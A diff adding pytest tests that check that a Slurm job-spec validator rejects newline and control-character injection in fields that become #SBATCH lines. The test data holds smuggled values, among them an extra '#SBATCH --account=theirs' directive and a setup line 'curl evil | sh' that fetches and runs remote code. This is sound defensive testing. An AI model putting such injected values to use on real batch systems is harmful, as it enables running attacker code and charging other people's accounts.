@@ -205,3 +205,53 @@ def test_the_profiled_rung_must_be_measured() -> None:
     assert "profile.active: 0 is not allowed; expected an integer >= 1" in error_of(
         spec_text("profile: {active: 0}\n")
     )
+
+
+@pytest.mark.parametrize(
+    ("slurm", "field", "shown"),
+    [
+        (
+            '{partition: "gpu\\n#SBATCH --account=theirs"}',
+            "slurm.partition",
+            "'gpu\\n#SBATCH --account=theirs'",
+        ),
+        ('{account: "abc\\r"}', "slurm.account", "'abc\\r'"),
+        ('{qos: "q\\u2028x"}', "slurm.qos", "'q\\u2028x'"),
+        ('{constraint: "a100\\tb"}', "slurm.constraint", "'a100\\tb'"),
+        ('{hint: "nomultithread\\n"}', "slurm.hint", "'nomultithread\\n'"),
+        ('{mem: "40G\\n"}', "slurm.mem", "'40G\\n'"),  # Slurm's pattern alone lets \n through
+        ('{time: "00:20:00\\n"}', "slurm.time", "'00:20:00\\n'"),
+        (
+            '{setup: ["module purge", "module load x\\ncurl evil | sh"]}',
+            "slurm.setup[1]",
+            "'module load x\\ncurl evil | sh'",
+        ),
+        ('{extra: {mail-type: "END\\n#SBATCH --x"}}', "slurm.extra.mail-type", "'END\\n#SBATCH --x'"),
+        (
+            '{extra: {"mail-type\\n#SBATCH --x": END}}',
+            "slurm.extra.mail-type\\n#SBATCH --x",
+            "'mail-type\\n#SBATCH --x'",
+        ),
+        ('{extra: {comment: "a\\u001b[31m"}}', "slurm.extra.comment", "'a\\x1b[31m'"),
+    ],
+)
+def test_a_value_that_becomes_an_sbatch_line_holds_one_line(slurm: str, field: str, shown: str) -> None:
+    message = error_of(spec_text(f"slurm: {slurm}\n"))
+    assert message == (
+        f"jobs/x.yaml:9: {field}: {shown} is not allowed; expected a single line without control characters"
+    )
+    assert "\n" not in message
+
+
+def test_a_name_with_a_line_break_is_refused() -> None:
+    message = error_of(spec_text().replace("name: t", 'name: "t\\n#SBATCH --x"'))
+    assert message.startswith("jobs/x.yaml:1: name: 't\\n#SBATCH --x' is not allowed")
+    assert "name: 't\\n' is not allowed" in error_of(spec_text().replace("name: t", 'name: "t\\n"'))
+
+
+@pytest.mark.parametrize("text", ["", "\n", "# only a comment\n", "---\n"])
+def test_an_empty_spec_says_it_is_empty(text: str) -> None:
+    assert error_of(text) == (
+        "jobs/x.yaml: the spec is empty; expected a mapping with keys name, description, workload, "
+        "measure, rungs, loader, zip, exclude, sequence, slurm, sampler, profile"
+    )
